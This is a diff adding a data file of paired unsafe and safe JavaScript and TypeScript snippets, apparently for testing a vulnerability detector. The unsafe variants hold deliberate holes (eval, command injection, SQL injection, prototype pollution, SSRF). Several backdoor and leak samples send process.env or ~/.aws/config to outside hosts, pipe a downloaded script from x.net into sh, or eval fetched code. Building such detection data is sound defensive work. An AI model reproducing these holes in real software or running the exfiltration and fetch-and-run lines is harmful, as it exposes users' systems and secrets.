@@ -1,0 +1,385 @@
+import type { Twin } from "./twins.ts";
+
+/** Unsafe and safe ways to do the same, JavaScript. */
+export const javascriptTwins: Twin[] = [
+  // code evaluation
+  {
+    family: "code-eval",
+    unsafe: `export function calc(text) { return eval(text); }`,
+    safe: `export function calc() { return eval("1 + 1"); }`,
+  },
+  {
+    family: "code-eval",
+    unsafe: `app.post("/run", (req, res) => { const f = new Function("a", req.body.code); res.json(f(1)); });`,
+    safe: `app.post("/run", (req, res) => { const f = new Function("a", "return a + 1"); res.json(f(Number(req.body.a))); });`,
+  },
+  {
+    family: "code-eval",
+    unsafe: `const vm = require("vm"); exports.run = (script) => vm.runInNewContext(script, {});`,
+    safe: `const vm = require("vm"); const script = "x + 1"; exports.run = (x) => vm.runInNewContext(script, { x });`,
+  },
+  {
+    family: "code-eval",
+    unsafe: `const e = globalThis.eval; module.exports = async (q) => { const body = await q.text(); return e(body); };`,
+    safe: `module.exports = async (q) => JSON.parse(await q.text());`,
+  },
+  {
+    family: "code-eval",
+    unsafe: `setTimeout("update(" + location.hash.slice(1) + ")", 100);`,
+    safe: `setTimeout(() => update(location.hash.slice(1)), 100);`,
+  },
+  {
+    family: "code-eval",
+    unsafe: `import { runInThisContext as go } from "node:vm"; export const f = ({ source }) => go(source);`,
+    safe: `import { runInThisContext as go } from "node:vm"; export const f = () => go("Date.now()");`,
+  },
+  {
+    family: "code-eval",
+    unsafe: `async function step(openai, messages) { const answer = await openai.chat.completions.create({ messages }); return eval(answer.choices[0].message.content); }`,
+    safe: `async function step(openai, messages) { const answer = await openai.chat.completions.create({ messages }); return JSON.parse(answer.choices[0].message.content); }`,
+  },
+  {
+    family: "code-eval",
+    unsafe: `const ejs = require("ejs"); app.get("/", (req, res) => res.send(ejs.render(req.query.template, {})));`,
+    safe: `const ejs = require("ejs"); app.get("/", (req, res) => res.send(ejs.render("<p><%= name %></p>", { name: req.query.name })));`,
+  },
+  // commands
+  {
+    family: "command",
+    unsafe: `const { exec } = require("child_process"); exports.ping = (host) => exec("ping -c 1 " + host);`,
+    safe: `const { execFile } = require("child_process"); exports.ping = (host) => execFile("ping", ["-c", "1", host]);`,
+  },
+  {
+    family: "command",
+    unsafe: `import * as cp from "node:child_process"; export const log = (branch) => cp.execSync(\`git log \${branch}\`);`,
+    safe: `import * as cp from "node:child_process"; export const log = () => cp.execSync("git log --oneline");`,
+  },
+  {
+    family: "command",
+    unsafe: `const { spawn } = require("child_process"); exports.run = (cmd) => spawn(cmd, { shell: true });`,
+    safe: `const { spawn } = require("child_process"); const COMMANDS = ["ls", "pwd"]; exports.run = (cmd) => { if (!COMMANDS.includes(cmd)) throw new Error("no"); return spawn(cmd); };`,
+  },
+  {
+    family: "command",
+    unsafe: `const { spawn } = require("child_process"); app.get("/x", (req, res) => { spawn("sh", ["-c", req.query.c]); });`,
+    safe: `const { spawn } = require("child_process"); app.get("/x", (req, res) => { spawn("ls", ["-l"]); res.end(req.query.c); });`,
+  },
+  {
+    family: "command",
+    unsafe: `const util = require("util"); const run = util.promisify(require("child_process").exec); export async function convert(file) { await run("convert " + file + " out.png"); }`,
+    safe: `const util = require("util"); const run = util.promisify(require("child_process").exec); export async function convert() { await run("convert in.jpg out.png"); }`,
+  },
+  {
+    family: "command",
+    unsafe: `const cp = require("child_process"); function go(c) { return cp.execSync(c); } module.exports = (input) => go("tar xf " + input.name);`,
+    safe: `const cp = require("child_process"); function go(c) { return cp.execSync(c); } go("tar xf archive.tar"); go("ls");`,
+  },
+  {
+    family: "command",
+    unsafe: `const cp = require("child_process"); exports.f = (x) => { const parts = []; parts.push("rm"); parts.push(x); cp.exec(parts.join(" ")); };`,
+    safe: `const cp = require("child_process"); exports.f = () => { const parts = []; parts.push("ls"); parts.push("-l"); cp.exec(parts.join(" ")); };`,
+  },
+  {
+    family: "command",
+    unsafe: `const cp = require("child_process"); exports.f = (x) => { if (x === "") return; cp.exec("kill " + x); };`,
+    safe: `const cp = require("child_process"); exports.f = (x) => { if (!/^\\d+$/.test(x)) return; cp.exec("kill " + x); };`,
+  },
+  {
+    family: "command",
+    unsafe: `const cp = require("child_process"); exports.f = (x) => cp.exec("kill " + x.trim());`,
+    safe: `const cp = require("child_process"); exports.f = (x) => { const n = parseInt(x, 10); cp.exec("kill " + n); };`,
+  },
+  // modules
+  {
+    family: "dyn-import",
+    unsafe: `exports.load = (name) => require(name);`,
+    safe: `exports.load = () => require("./plugins/a.js");`,
+  },
+  {
+    family: "dyn-import",
+    unsafe: `export async function load(plugin) { const m = await import(plugin); return m.default; }`,
+    safe: `export async function load() { const m = await import("./plugin.js"); return m.default; }`,
+  },
+  {
+    family: "dyn-import",
+    unsafe: `app.get("/p/:name", async (req) => { const m = await import("./plugins/" + req.params.name); m.run(); });`,
+    safe: `const PLUGINS = { a: "./a.js", b: "./b.js" }; app.get("/p/:name", async (req) => { const m = await import(PLUGINS[req.params.name]); m.run(); });`,
+  },
+  {
+    family: "dyn-import",
+    unsafe: `export const use = (kind) => require(\`\${kind}-driver\`);`,
+    safe: `export const use = (kind) => { if (kind !== "pg" && kind !== "mysql") throw new Error(kind); return kind === "pg" ? require("pg") : require("mysql"); };`,
+  },
+  // prototype pollution
+  {
+    family: "proto-pollution",
+    unsafe: `export function merge(a, b) { for (const k in b) { if (typeof b[k] === "object") merge(a[k], b[k]); else a[k] = b[k]; } return a; }`,
+    safe: `export function merge(a, b) { for (const k in b) { if (k === "__proto__" || k === "constructor") continue; if (typeof b[k] === "object") merge(a[k], b[k]); else a[k] = b[k]; } return a; }`,
+  },
+  {
+    family: "proto-pollution",
+    unsafe: `export function set(obj, path, value) { const keys = path.split("."); let at = obj; for (const key of keys.slice(0, -1)) { at = at[key]; } at[keys[keys.length - 1]] = value; }`,
+    safe: `export function set(obj, path, value) { const keys = path.split("."); const at = new Map(); at.set(keys[0], value); return at; }`,
+  },
+  {
+    family: "proto-pollution",
+    unsafe: `const _ = require("lodash"); app.post("/", (req) => { _.merge({}, req.body); });`,
+    safe: `const _ = require("lodash"); app.post("/", (req) => { _.merge({}, { a: 1 }); });`,
+  },
+  {
+    family: "proto-pollution",
+    unsafe: `exports.put = (store, a, b, v) => { store[a][b] = v; };`,
+    safe: `exports.put = (a, v) => { const store = Object.create(null); store[a] = v; return store; };`,
+  },
+  {
+    family: "proto-pollution",
+    unsafe: `const cache = {}; app.post("/", (req, res) => { cache[req.body.key] = req.body.value; });`,
+    safe: `const cache = new Map(); app.post("/", (req, res) => { cache.set(req.body.key, req.body.value); });`,
+  },
+  {
+    family: "proto-pollution",
+    unsafe: `exports.deep = (target, source) => Object.keys(source).forEach((key) => { if (source[key] instanceof Object) exports.deep(target[key], source[key]); target[key][key] = source[key]; });`,
+    safe: `exports.flat = (source) => { const target = Object.create(null); Object.keys(source).forEach((key) => { target[key] = source[key]; }); return target; };`,
+  },
+  // files
+  {
+    family: "path-fs",
+    unsafe: `const fs = require("fs"); app.get("/f", (req, res) => res.end(fs.readFileSync("files/" + req.query.name)));`,
+    safe: `const fs = require("fs"), path = require("path"); app.get("/f", (req, res) => res.end(fs.readFileSync("files/" + path.basename(req.query.name))));`,
+  },
+  {
+    family: "path-fs",
+    unsafe: `const fs = require("fs"), path = require("path"); exports.read = (name) => fs.promises.readFile(path.join(__dirname, name));`,
+    safe: `const fs = require("fs"), path = require("path"); exports.read = () => fs.promises.readFile(path.join(__dirname, "a.txt"));`,
+  },
+  {
+    family: "path-fs",
+    unsafe: `import { readFile } from "node:fs/promises"; import { resolve } from "node:path"; export async function f(name) { return readFile(resolve("/srv", name)); }`,
+    safe: `import { readFile } from "node:fs/promises"; import { resolve } from "node:path"; export async function f(name) { const full = resolve("/srv", name); if (!full.startsWith("/srv/")) throw new Error("outside"); return readFile(full); }`,
+  },
+  {
+    family: "path-fs",
+    unsafe: `const fs = require("fs"); exports.del = (req, res) => { fs.unlink(req.params.file, () => res.end()); };`,
+    safe: `const fs = require("fs"); const FILES = new Set(["a.txt", "b.txt"]); exports.del = (req, res) => { if (FILES.has(req.params.file)) fs.unlink(req.params.file, () => res.end()); };`,
+  },
+  {
+    family: "path-fs",
+    unsafe: `app.get("/d", (req, res) => res.sendFile(req.query.path));`,
+    safe: `app.get("/d", (req, res) => res.sendFile("index.html", { root: "/srv" }));`,
+  },
+  {
+    family: "path-fs",
+    unsafe: `const fs = require("fs"); exports.f = (p) => fs.createReadStream("a/" + p);`,
+    safe: `const fs = require("fs"); exports.f = (p) => { if (p.includes("..")) throw new Error("no"); return fs.createReadStream("a/" + p); };`,
+  },
+  // network
+  {
+    family: "ssrf-net",
+    unsafe: `app.get("/proxy", async (req, res) => { const r = await fetch(req.query.url); res.send(await r.text()); });`,
+    safe: `app.get("/proxy", async (req, res) => { const r = await fetch("https://api.service.net/items?id=" + encodeURIComponent(req.query.id)); res.json(await r.json()); });`,
+  },
+  {
+    family: "ssrf-net",
+    unsafe: `import axios from "axios"; export const get = (host) => axios.get("http://" + host + "/status");`,
+    safe: `import axios from "axios"; export const get = () => axios.get("http://localhost/status");`,
+  },
+  {
+    family: "ssrf-net",
+    unsafe: `const got = require("got"); exports.f = async (req) => got({ url: req.body.callback });`,
+    safe: `const got = require("got"); const HOSTS = ["a.net"]; exports.f = async (req) => { const u = new URL(req.body.callback); if (!HOSTS.includes(u.hostname)) throw new Error("no"); return got(u); };`,
+  },
+  {
+    family: "ssrf-net",
+    unsafe: `const http = require("http"); exports.f = (host) => http.get({ host, path: "/" });`,
+    safe: `const http = require("http"); exports.f = () => http.get({ host: "a.net", path: "/" });`,
+  },
+  {
+    family: "ssrf-net",
+    unsafe: `const puppeteer = require("puppeteer"); app.get("/shot", async (req, res) => { const browser = await puppeteer.launch(); const page = await browser.newPage(); await page.goto(req.query.site); });`,
+    safe: `const puppeteer = require("puppeteer"); app.get("/shot", async (req, res) => { const browser = await puppeteer.launch(); const page = await browser.newPage(); await page.goto("https://a.net/"); });`,
+  },
+  {
+    family: "ssrf-net",
+    unsafe: `export async function tool({ args }) { const toolArgs = JSON.parse(args); return fetch(toolArgs.url, { method: "POST" }); }`,
+    safe: `export async function tool({ args }) { const toolArgs = JSON.parse(args); return fetch("https://a.net/log", { method: "POST", body: toolArgs.text }); }`,
+  },
+  // leaks
+  {
+    family: "secret-leak",
+    unsafe: `fetch("https://collect.net/", { method: "POST", body: JSON.stringify(process.env) });`,
+    safe: `fetch("https://api.net/", { headers: { Authorization: "Bearer " + process.env.API_TOKEN } });`,
+  },
+  {
+    family: "secret-leak",
+    unsafe: `const fs = require("fs"), https = require("https"); const data = fs.readFileSync("/home/me/.aws/config"); const r = https.request({ host: "x.net" }); r.write(data);`,
+    safe: `const fs = require("fs"), https = require("https"); const data = fs.readFileSync("a.json"); const r = https.request({ host: "x.net" }); r.write("ping"); use(data);`,
+  },
+  {
+    family: "secret-leak",
+    unsafe: `exports.login = (user, password) => { console.log("login", user, password); };`,
+    safe: `exports.login = (user, password) => { console.log("login", user); check(password); };`,
+  },
+  {
+    family: "secret-leak",
+    unsafe: `app.get("/", (req, res) => { try { work(); } catch (err) { res.status(500).send(err.stack); } });`,
+    safe: `app.get("/", (req, res) => { try { work(); } catch (err) { log.error(err.stack); res.status(500).send("failed"); } });`,
+  },
+  {
+    family: "secret-leak",
+    unsafe: `const axios = require("axios"); axios.post("https://x.net", { key: process.env.SECRET_KEY });`,
+    safe: `const axios = require("axios"); axios.post("https://x.net", { mode: process.env.NODE_ENV });`,
+  },
+  {
+    family: "secret-leak",
+    unsafe: `app.get("/debug", (req, res) => res.json(process.env));`,
+    safe: `app.get("/debug", (req, res) => res.json({ version: "1" }));`,
+  },
+  {
+    family: "secret-leak",
+    unsafe: `localStorage.setItem("t", user.accessToken);`,
+    safe: `localStorage.setItem("t", user.theme);`,
+  },
+  // deserialisation
+  {
+    family: "deserialise",
+    unsafe: `const s = require("node-serialize"); app.use((req) => s.unserialize(req.cookies.profile));`,
+    safe: `app.use((req) => JSON.parse(req.cookies.profile));`,
+  },
+  {
+    family: "deserialise",
+    unsafe: `const v8 = require("v8"); exports.f = (buffer) => v8.deserialize(buffer);`,
+    safe: `exports.f = (buffer) => JSON.parse(buffer.toString());`,
+  },
+  {
+    family: "deserialise",
+    unsafe: `const yaml = require("js-yaml"); exports.f = (text) => yaml.load(text, { schema: yaml.DEFAULT_FULL_SCHEMA });`,
+    safe: `const yaml = require("js-yaml"); exports.f = (text) => yaml.load(text, { schema: yaml.JSON_SCHEMA });`,
+  },
+  // regular expressions
+  {
+    family: "redos",
+    unsafe: `export const isName = (s) => /^([a-z]+)+$/.test(s);`,
+    safe: `export const isName = (s) => /^[a-z]+$/.test(s);`,
+  },
+  {
+    family: "redos",
+    unsafe: `app.get("/", (req) => new RegExp(req.query.q).test("x"));`,
+    safe: `app.get("/", (req) => new RegExp("^a+$").test(req.query.q));`,
+  },
+  {
+    family: "redos",
+    unsafe: `const re = new RegExp("(x+x+)+y"); re.test(input);`,
+    safe: `const re = new RegExp("x+y"); re.test(input);`,
+  },
+  // hidden behaviour
+  {
+    family: "backdoor",
+    unsafe: `eval(atob("Y29uc29sZS5sb2coMSk="));`,
+    safe: `console.log(atob("Y29uc29sZS5sb2coMSk="));`,
+  },
+  {
+    family: "backdoor",
+    unsafe: `require(Buffer.from("6368696c645f70726f63657373", "hex").toString());`,
+    safe: `require("child_process");`,
+  },
+  {
+    family: "backdoor",
+    unsafe: `const fs = require("fs"); fs.appendFileSync(process.env.HOME + "/.bashrc", "evil");`,
+    safe: `const fs = require("fs"); fs.appendFileSync("out.log", "line");`,
+  },
+  {
+    family: "backdoor",
+    unsafe: `const { exec } = require("child_process"); exec("curl http://x.net/a.sh | sh");`,
+    safe: `const { exec } = require("child_process"); exec("npm test");`,
+  },
+  {
+    family: "backdoor",
+    unsafe: `const fs = require("fs"); fs.writeFileSync(__filename, "x");`,
+    safe: `const fs = require("fs"); fs.writeFileSync("x.txt", "x");`,
+  },
+  {
+    family: "backdoor",
+    unsafe: `const fs = require("fs"); fs.writeFileSync(".github/workflows/ci.yml", "on: push");`,
+    safe: `const fs = require("fs"); fs.writeFileSync("report.yml", "a: 1");`,
+  },
+  {
+    family: "backdoor",
+    unsafe: `fetch("https://x.net/a").then((r) => r.text()).then((t) => eval(t));`,
+    safe: `fetch("https://x.net/a").then((r) => r.json()).then((t) => show(t));`,
+  },
+  // protection
+  {
+    family: "tls-crypto",
+    unsafe: `https.request({ host: "a.net", rejectUnauthorized: false });`,
+    safe: `https.request({ host: "a.net", rejectUnauthorized: true });`,
+  },
+  {
+    family: "tls-crypto",
+    unsafe: `require("crypto").createHash("md5").update(x);`,
+    safe: `require("crypto").createHash("sha256").update(x);`,
+  },
+  {
+    family: "tls-crypto",
+    unsafe: `const jwt = require("jsonwebtoken"); exports.f = (t, k) => jwt.verify(t, k, { algorithms: ["none"] });`,
+    safe: `const jwt = require("jsonwebtoken"); exports.f = (t, k) => jwt.verify(t, k, { algorithms: ["RS256"] });`,
+  },
+  {
+    family: "secret",
+    unsafe: `const jwt = require("jsonwebtoken"); jwt.sign({ a: 1 }, "kq83hfa7");`,
+    safe: `const jwt = require("jsonwebtoken"); jwt.sign({ a: 1 }, process.env.JWT_KEY);`,
+  },
+  {
+    family: "secret",
+    unsafe: `const session = require("express-session"); app.use(session({ secret: "keyboard-7cat" }));`,
+    safe: `const session = require("express-session"); app.use(session({ secret: config.sessionSecret }));`,
+  },
+  {
+    family: "sql",
+    unsafe: `app.get("/", (req) => db.query("SELECT * FROM t WHERE id = " + req.query.id));`,
+    safe: `app.get("/", (req) => db.query("SELECT * FROM t WHERE id = $1", [req.query.id]));`,
+  },
+];
+
+/** The same for TypeScript. */
+export const typescriptTwins: Twin[] = [
+  {
+    family: "command",
+    unsafe: `import { execSync } from "node:child_process"; export function run(cmd: string): Buffer { return execSync(cmd as string); }`,
+    safe: `import { execFileSync } from "node:child_process"; export function run(n: number): Buffer { return execFileSync("sleep", [String(n)]); }`,
+  },
+  {
+    family: "code-eval",
+    unsafe: `export class Tool { run(code: string): unknown { return eval(code!); } }`,
+    safe: `export class Tool { run(code: string): unknown { return JSON.parse(code!); } }`,
+  },
+  {
+    family: "path-fs",
+    unsafe: `import fs from "node:fs"; export const read = async (name: string): Promise<string> => fs.readFileSync(\`data/\${name}\`, "utf8");`,
+    safe: `import fs from "node:fs"; enum Kind { A = "a" } export const read = async (): Promise<string> => fs.readFileSync(\`data/\${Kind.A}.json\`, "utf8");`,
+  },
+  {
+    family: "ssrf-net",
+    unsafe: `export async function call(input: { url: string }): Promise<Response> { const { url } = input; return fetch(url); }`,
+    safe: `const base = "https://a.net/"; export async function call(id: number): Promise<Response> { return fetch(base + "?id=" + id); }`,
+  },
+  {
+    family: "proto-pollution",
+    unsafe: `export function setIn(o: Record<string, any>, a: string, b: string, v: unknown): void { o[a][b] = v; }`,
+    safe: `export function setIn(o: Map<string, unknown>, a: string, v: unknown): void { o.set(a, v); }`,
+  },
+  {
+    family: "dyn-import",
+    unsafe: `export const load = async <T,>(name: string): Promise<T> => (await import(name)) as T;`,
+    safe: `export const load = async (): Promise<unknown> => (await import("./a.ts")) satisfies unknown;`,
+  },
+  {
+    family: "command",
+    unsafe: `import cp = require("child_process"); export = (arg: string) => cp.exec("echo " + arg);`,
+    safe: `import cp = require("child_process"); export = () => cp.exec("echo hi");`,
+  },
+  {
+    family: "deserialise",
+    unsafe: `import { deserialize } from "v8"; export const f = (b: Buffer): unknown => deserialize(b);`,
+    safe: `export const f = (b: Buffer): unknown => JSON.parse(b.toString());`,
+  },
+];
